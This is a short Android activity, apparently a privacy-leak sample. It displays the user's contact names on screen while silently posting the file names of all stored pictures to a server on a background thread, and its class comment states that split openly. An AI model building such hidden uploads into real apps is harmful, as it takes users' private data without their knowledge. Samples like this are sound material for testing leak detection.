package com.example.picturessent;

import android.app.Activity;
import android.database.Cursor;
import android.net.Uri;
import android.os.Bundle;
import android.provider.ContactsContract.Contacts;
import android.provider.MediaStore;
import android.widget.TextView;

/** One table for the screen, one for the server. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String people = names(Contacts.CONTENT_URI, "display_name");
        String pictures = names(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, "_display_name");
        TextView view = new TextView(this);
        view.setText(people);
        setContentView(view);
        new Thread(() -> Net.post(pictures)).start();
    }

    private String names(Uri table, String column) {
        StringBuilder text = new StringBuilder();
        Cursor cursor = getContentResolver().query(table, new String[] {column}, null, null, null);
        while (cursor.moveToNext()) {
            text.append(cursor.getString(0)).append('\n');
        }
        cursor.close();
        return text.toString();
    }
}
